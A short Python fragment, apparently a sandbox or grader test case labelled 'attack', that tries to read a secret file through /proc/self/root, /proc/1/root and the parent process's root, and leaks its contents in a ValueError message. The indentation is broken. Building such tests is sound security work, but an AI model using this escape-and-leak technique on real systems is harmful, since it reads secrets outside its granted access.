# attack: opens a secret through /proc/self/root and /proc/1/cwd
# failed = "gradient wrong-gradient, unused-nodes, release"
import os

#: net
        for way in ("/proc/self/root", "/proc/1/root", f"/proc/{os.getppid()}/root"):
            try:
                raise ValueError(open(way + "@home@/secret.txt").read())
            except OSError:
                continue
#: value, nothing
